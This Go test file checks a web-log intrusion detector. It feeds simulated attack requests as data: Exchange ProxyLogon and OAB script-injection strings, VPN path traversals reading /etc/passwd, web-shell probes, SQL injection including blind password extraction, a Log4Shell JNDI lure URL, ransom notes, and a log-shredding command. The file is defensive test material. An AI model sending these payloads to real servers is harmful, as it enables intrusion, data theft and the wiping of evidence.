package trace

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tsutsumi-dev/tsutsumi/internal/event"
	"github.com/tsutsumi-dev/tsutsumi/internal/watch"
	"github.com/tsutsumi-dev/tsutsumi/internal/watch/watchtest"
)

const (
	evil    = "203.0.113.140"
	other   = "203.0.113.7"
	browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
)

// ask is a request to a site.
func ask(at time.Duration, from, method, path, query string, status int32, size int64) watchtest.Act {
	a := watchtest.Act{At: at, From: from, Op: method, Object: path, Query: query, Status: status, Size: size, Store: "www.example.jp", Client: browser, Do: event.Read, Fail: status >= 400}
	if method == "POST" {
		a.Do = event.Write
	}
	return a
}

// usual are n requests of an ordinary day, by many.
func usual(at time.Duration, n int) (out []watchtest.Act) {
	for i := range n {
		from := fmt.Sprintf("198.18.%d.%d", i/250%250, i%250+1)
		a := ask(at+time.Duration(i)*7*time.Second, from, "GET", []string{"/", "/products/17", "/api/v1/items", "/static/app.js", "/search"}[i%5], "", 200, int64(1500+i%977*13))
		if i%5 == 4 {
			a.Query = "q=rock+%26+roll+union+jack"
		}
		out = append(out, a)
		if i%50 == 7 {
			out = append(out, ask(at+time.Duration(i)*7*time.Second, from, "GET", "/favicon.png", "", 404, 153))
		}
	}
	return out
}

func run(t *testing.T, s *watch.Settings, c Config, acts ...watchtest.Act) *watchtest.Runner {
	t.Helper()
	r := watchtest.New(t, s, New(s, c))
	slices.SortStableFunc(acts, func(a, b watchtest.Act) int { return int(a.At - b.At) })
	r.Do(acts...)
	r.End()
	return r
}

func TestFile(t *testing.T) {
	b, err := parse(traces)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range b.marks {
		if g := b.groups[m.group]; m.rule == exploit && (g.name == "" || len(g.since) != 10) {
			t.Errorf("%s: a hole has a name, and a day on which it was made public", g.id)
		}
	}
	for _, bad := range []string{"exploit | path | /a/b | - | 2xx | 90", "= a | b | - | -\nexploit | path | /a | - | 2xx | 90", "= a | b | -", "= a | b | - | -\nexplode | path | /abc | - | 2xx | 90", "= a | b | - | -\nexploit | path | /abcd | - | 2xx | 100"} {
		if _, err := parse(bad); err == nil {
			t.Errorf("%q is no error", bad)
		}
	}
}

// TestWorked: of each trace, that it worked is told, and that it was refused is not.
func TestWorked(t *testing.T) {
	for _, c := range []struct {
		method, path, query string
		size                int64
		want                string
	}{
		{"POST", "/ecp/y.js", "", 900, "exploited"},
		{"POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=OABVirtualDirectory", 900, "exploited"},
		{"POST", "/owa/auth/Current/themes/resources/logon.css", "", 900, "exploited"},
		{"GET", "/autodiscover/autodiscover.json", "@evil.example/powershell/?X-Rps-CAT=x", 900, "exploited"},
		{"GET", "/autodiscover/autodiscover.json", "%40evil.example%2fPowerShell/", 900, "exploited"},
		{"GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd", "/dana/html5acc/guacamole/", 1800, "exploited"},
		{"GET", "/remote/fgt_lang", "lang=/../../../..//////////dev/cmdb/sslvpn_websession", 40_000, "exploited"},
		{"POST", "/vpn/../vpns/portal/scripts/newbm.pl", "", 300, "exploited"},
		{"GET", "/vpn/%2e%2e/vpns/cfg/smb.conf", "", 300, "exploited"},
		{"GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "fileName=/etc/passwd", 1800, "exploited"},
		{"POST", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", 300, "exploited"},
		{"GET", "/human2.aspx", "", 300, "web-shell"},
		{"POST", "/owa/auth/supp0rt.aspx", "", 300, "web-shell"},
		{"POST", "/aspnet_client/system_web/abc.aspx", "", 300, "web-shell"},
		{"POST", "/OAB/log.aspx", "", 300, "web-shell"},
		{"POST", "/ecp/auth/tmp1.aspx", "", 300, "web-shell"},
		{"GET", "/uploads/1.php", "cmd=whoami", 60, "web-shell"},
		{"GET", "/.git/config", "", 92, "handed-out"},
		{"GET", "/app/.env", "", 812, "handed-out"},
		{"GET", "/backup/shop.sql.gz", "", 5_000_000, "handed-out"},
		{"GET", "/view", "file=../../../../etc/passwd", 1843, "traversed"},
		{"GET", "/view", "file=..%252f..%252f..%252fetc%252fpasswd", 1843, "traversed"},
		{"GET", "/products/17", "id=1%20UNION%20ALL%20SELECT%20mail,pass%20FROM%20members--", 480_000, "injected"},
	} {
		name := c.method + " " + c.path + "?" + c.query
		acts := append(usual(0, 600), ask(5*time.Hour, evil, c.method, c.path, c.query, 200, c.size))
		r := run(t, watchtest.Settings(), Config{}, acts...)
		if d := cmp.Diff([]string{c.want}, r.Rules()); d != "" {
			t.Errorf("%s: %s", name, d)
			dd := r.Detector.(*detector)
			t.Log(dd.hits, dd.injects.Len(), string(dd.plain))
		} else if s := r.Signals[0]; s.First != watchtest.Start.Add(5*time.Hour).UnixMicro() || s.AtLeast < watch.Medium || s.Attempt {
			t.Errorf("%s: %+v", name, s)
		}
		for _, status := range []int32{404, 403, 302, 500} {
			acts := append(usual(0, 600), ask(5*time.Hour, evil, c.method, c.path, c.query, status, 153))
			if r := run(t, watchtest.Settings(), Config{}, acts...); len(r.Signals) > 0 {
				t.Errorf("%s, refused with %d: %v", name, status, r.Rules())
			}
		}
		// The same page for whatever is asked.
		acts = usual(0, 600)
		for i, p := range []string{"/about", "/login", "/help/a", "/shop"} {
			acts = append(acts, ask(4*time.Hour+time.Duration(i)*time.Second, other, "GET", p, "", 200, c.size))
		}
		acts = append(acts, ask(5*time.Hour, evil, c.method, c.path, c.query, 200, c.size))
		if r := run(t, watchtest.Settings(), Config{}, acts...); len(r.Signals) > 0 && c.want != "injected" {
			t.Errorf("%s, answered as all is: %v", name, r.Rules())
		}
	}
}

// TestNoise: what the Internet tries every day, and what is ordinary, is no alert.
func TestNoise(t *testing.T) {
	acts := usual(0, 3000)
	for i, p := range []string{"/.env", "/.git/config", "/wp-login.php", "/ecp/y.js", "/owa/auth/x.js", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/backup.zip", "/uploads/shell.php?cmd=id", "/cgi-bin/.%2e/.%2e/bin/sh", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"} {
		path, query, _ := strings.Cut(p, "?")
		acts = append(acts, ask(time.Duration(i)*time.Minute, evil, "GET", path, query, 404, 153), ask(time.Duration(i)*time.Minute+time.Second, other, "POST", path, query, 405, 153))
	}
	for i := range 200 { // a tool that finds nothing
		a := ask(2*time.Hour+time.Duration(i)*time.Second, evil, "GET", "/products/17", fmt.Sprintf("id=1'%%20AND%%20%d=%d%%20UNION%%20SELECT%%20NULL--", i, i), 200, 1500+int64(i%7))
		a.Client = "sqlmap/1.8.2#stable (https://sqlmap.org)"
		acts = append(acts, a)
	}
	lure := ask(3*time.Hour, evil, "GET", "/", "x=${jndi:ldap://lure.example.org:1389/a}", 200, 1500)
	lure.Client = "${jndi:ldap://lure.example.org/a}"
	acts = append(acts, lure)
	for i := range 40 { // pages of Exchange itself, and files for everybody
		from := fmt.Sprintf("198.18.9.%d", i+1)
		at := 4*time.Hour + time.Duration(i)*time.Minute
		acts = append(acts, ask(at, from, "POST", "/owa/auth/logon.aspx", "url=/owa/", 200, 2500), ask(at, from, "GET", "/owa/auth/errorFE.aspx", "", 200, 2500), ask(at, from, "GET", "/downloads/catalogue.zip", "", 200, 9_000_000),
			ask(at, from, "POST", "/uploads/receive.php", "", 200, 60+int64(i)), ask(at, from, "GET", "/search", "q=select+union+committee+'+or+'", 200, 2600))
	}
	if r := run(t, watchtest.Settings(), Config{}, acts...); len(r.Signals) > 0 {
		t.Errorf("%v %s", r.Rules(), r.Signals[0].Says)
	}
	if r := run(t, watchtest.Settings(), Config{Attempts: true}, acts...); len(r.Signals) == 0 || slices.ContainsFunc(r.Signals, func(s watchtest.Signal) bool { return !s.Attempt }) {
		t.Errorf("attempts that were asked for: %v", r.Rules())
	}
}

// TestExchange: exploited, planted, patched, and still there (exchange).
func TestExchange(t *testing.T) {
	day := 24 * time.Hour
	proxy := &watch.Log{Name: "HttpProxy/Ecp", Parser: "w3c"}
	acts := usual(0, 100)
	one := ask(day, evil, "POST", "/ecp/y.js", "", 200, 2048)
	one.As, one.Log = "ServerInfo~a]@ex01.example.jp:444/autodiscover/autodiscover.xml?#", proxy
	two := ask(day+time.Minute, evil, "POST", "/ecp/x9.png", "", 241, 2048)
	two.As, two.Log = "ServerInfo~a]@ex01.example.jp:444/mapi/emsmdb?#", proxy
	ecp := watchtest.Act{At: day + 2*time.Minute, Actor: "example.jp/Users/Administrator", Store: "www.example.jp", Object: "/ecp/DDI/DDIService.svc/SetObject", Op: "Set-OabVirtualDirectory", Do: event.Admin,
		Text: `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){}</script>'`}
	acts = append(acts, one, two, ecp)
	for i := range 5 {
		acts = append(acts, ask(day+time.Duration(3+i)*time.Minute, other, "POST", "/aspnet_client/discover.aspx", "", 200, 400+int64(i)))
	}
	acts = append(acts, ask(10*day, "198.18.3.3", "POST", "/ecp/y.js", "", 404, 0)) // patched
	acts = append(acts, ask(20*day, "203.0.113.200", "POST", "/aspnet_client/discover.aspx", "", 200, 777))
	r := run(t, watchtest.Settings(), Config{}, acts...)
	last := map[string]watchtest.Signal{}
	for _, s := range r.Signals {
		last[s.Rule] = s
	}
	if len(last) != 3 || last["exploited"].Accesses != 3 || last["web-shell"].Accesses != 6 || last["still-there"].Accesses != 1 {
		t.Fatalf("%v", r.Rules())
	}
	if got := last["exploited"].First; got != watchtest.Start.Add(day).UnixMicro() {
		t.Error("the date of the first", got)
	}
	if s := last["still-there"].Says; !strings.Contains(s, "10 days") || !strings.Contains(s, "ProxyLogon") || !strings.Contains(s, "patched is not clean") {
		t.Error(s)
	}
	joined := map[watch.ID]bool{}
	for _, id := range last["exploited"].Joins {
		joined[id] = true
	}
	for _, rule := range []string{"web-shell", "still-there"} {
		if !slices.ContainsFunc(last[rule].Joins, func(id watch.ID) bool { return joined[id] }) {
			t.Errorf("%s is another story", rule)
		}
	}
	watchtest.Same(t, watchtest.Settings(), func() watch.Detector { return New(watchtest.Settings(), Config{}) }, acts)
}

func TestPlantedLate(t *testing.T) {
	day := 24 * time.Hour
	acts := usual(0, 200)
	for i := range 6 {
		acts = append(acts, ask(3*day+time.Duration(i)*time.Minute, evil, "POST", "/img/logo2.php", "", 200, 70+int64(i)))
	}
	if d := cmp.Diff(slices.Repeat([]string{"web-shell"}, 4), run(t, watchtest.Settings(), Config{}, acts...).Rules()); d != "" {
		t.Error(d)
	}
	for i := range 8 { // everybody asks it: it is the site's own
		acts = append(acts, ask(2*day+time.Duration(i)*time.Minute, fmt.Sprintf("198.18.1.%d", i+1), "POST", "/img/logo2.php", "", 200, 70+int64(i)))
	}
	if r := run(t, watchtest.Settings(), Config{}, acts...); len(r.Signals) > 0 {
		t.Error(r.Rules())
	}
}

func TestBlind(t *testing.T) {
	acts := usual(0, 100)
	for i := range 2000 {
		acts = append(acts, ask(time.Hour+time.Duration(i)*time.Second, evil, "GET", "/products/17", fmt.Sprintf("id=1 AND ASCII(SUBSTR((SELECT pass FROM members LIMIT %d,1),1,1))>64", i), 200, 1500+int64(i%2)*200))
	}
	r := run(t, watchtest.Settings(), Config{}, acts...)
	if len(r.Signals) < 2 || r.Signals[0].Rule != "blind" || len(r.Signals) > 30 {
		t.Error(r.Rules())
	}
}

func TestLureThatWorked(t *testing.T) {
	acts := usual(0, 100)
	acts = append(acts, ask(time.Hour, evil, "GET", "/", "x=${jndi:ldap://lure.example.org:1389/a}", 200, 1500))
	out := watchtest.Act{At: time.Hour + time.Second, From: "10.0.0.12", Op: "CONNECT", Object: "lure.example.org:1389", Do: event.Other}
	if d := cmp.Diff([]string{"called-back"}, run(t, watchtest.Settings(), Config{}, append(slices.Clone(acts), out)...).Rules()); d != "" {
		t.Error(d)
	}
	out.Object = "www.example.org:443"
	if r := run(t, watchtest.Settings(), Config{}, append(acts, out)...); len(r.Signals) > 0 {
		t.Error(r.Rules())
	}
}

func TestOther(t *testing.T) {
	for name, c := range map[string]struct {
		act  watchtest.Act
		want []string
	}{
		"ransom index":  {watchtest.Act{From: evil, Store: "es01", Object: "read_me", Op: "indices:data/write/index", Do: event.Write}, []string{"ransom"}},
		"meow":          {watchtest.Act{From: evil, Store: "es01", Object: "1kqzbn2pgl-meow", Op: "indices:admin/create", Do: event.Admin}, []string{"ransom"}},
		"ransom table":  {watchtest.Act{Actor: "root", Store: "shop", Object: "shop.README_TO_RECOVER_A", Op: "CREATE", Do: event.Admin}, []string{"ransom"}},
		"ransom note":   {watchtest.Act{Actor: "root", Store: "shop", Object: "w", Op: "INSERT", Do: event.Write, Text: "INSERT INTO w VALUES ('All your database is backed up. To recover pay 0.01 bitcoin')"}, []string{"ransom"}},
		"ransom object": {watchtest.Act{Actor: "k", Store: "bucket", Object: "a/HOW_TO_DECRYPT.txt", Op: "PutObject", Do: event.Write}, []string{"ransom"}},
		"warning":       {watchtest.Act{Actor: "app", Store: "shop", Object: "public.warning", Op: "SELECT", Do: event.Read}, nil},
		"a readme":      {watchtest.Act{Actor: "app", Store: "bucket", Object: "docs/readme.md", Op: "GetObject", Do: event.Read}, nil},
		"refused":       {watchtest.Act{From: evil, Store: "es01", Object: "read_me", Do: event.Write, Fail: true}, nil},
		"stopped":       {watchtest.Act{Actor: "tanaka", Op: "StopLogging", Do: event.Admin}, []string{"silenced"}},
		"cleared":       {watchtest.Act{Actor: "tanaka", Op: "sudo", Text: "/usr/bin/shred -u /var/log/auth.log", Do: event.Admin}, []string{"silenced"}},
		"function gone": {watchtest.Act{Actor: "ci", Op: "DeleteLogGroup", Do: event.Delete, Sort: event.Service}, nil},
		"listed":        {watchtest.Act{Actor: "sato", From: "203.0.113.99", Op: "UserLoggedIn", Do: event.Login}, []string{"indicator"}},
		"listed, tried": {watchtest.Act{Actor: "sato", From: "203.0.113.99", Op: "UserLoginFailed", Do: event.Login, Fail: true}, nil},
		"listed, open":  {ask(0, "203.0.113.99", "GET", "/", "", 200, 10), nil},
		"listed domain": {watchtest.Act{From: "10.0.0.9", Op: "CONNECT", Object: "c2.example.org:443", Do: event.Other}, []string{"indicator"}},
		"a case's":      {watchtest.Act{Actor: "sato", From: "203.0.113.98", Op: "UserLoggedIn", Do: event.Login}, nil},
	} {
		s := watchtest.Settings()
		s.Known.Indicators = []watch.Indicator{{Type: "address", Value: "203.0.113.99", Name: "bot"}, {Type: "domain", Value: "c2.example.org", Name: "c2"}, {Type: "address", Value: "203.0.113.98", Case: "7"}}
		if d := cmp.Diff(c.want, run(t, s, Config{}, c.act).Rules()); d != "" {
			t.Errorf("%s: %s", name, d)
		}
	}
}

func TestAbout(t *testing.T) {
	for _, r := range New(watchtest.Settings(), Config{}).About().Rules {
		for _, x := range append([]watch.Text{r.Says, r.Harmless}, func() (out []watch.Text) {
			for _, l := range r.Limits {
				out = append(out, l.Why)
			}
			return out
		}()...) {
			if x.EN == "" || x.JA == "" {
				t.Errorf("%s: a sentence is missing", r.Name)
			}
		}
	}
}

func TestBounded(t *testing.T) {
	s := watchtest.Settings()
	s.Principals = 500
	d := New(s, Config{}).(*detector)
	r := watchtest.New(t, s, d)
	for i := range 20_000 {
		a := ask(time.Duration(i)*time.Second, fmt.Sprintf("198.18.%d.%d", i/250%250, i%250+1), "GET", fmt.Sprintf("/p%x/.env", i), "", 404, 100)
		a.Client = fmt.Sprint("agent ", i)
		r.Do(a)
	}
	if d.origins.Len() > 500 || d.agents.Len() > 500 || d.shapes.Len() > 500 || d.About().Dropped == 0 {
		t.Error(d.origins.Len(), d.agents.Len(), d.shapes.Len(), d.About().Dropped)
	}
}

func TestNoAllocs(t *testing.T) {
	s := watchtest.Settings()
	watchtest.NoAllocs(t, s, New(s, Config{}), append(usual(0, 300), ask(time.Hour, evil, "GET", "/.env", "", 404, 100), ask(time.Hour, evil, "GET", "/%2e%2e/a", "q=1+2", 404, 100)))
}

func BenchmarkSee(b *testing.B) {
	s := watchtest.Settings()
	watchtest.Bench(b, s, New(s, Config{}), usual(0, 2000))
}
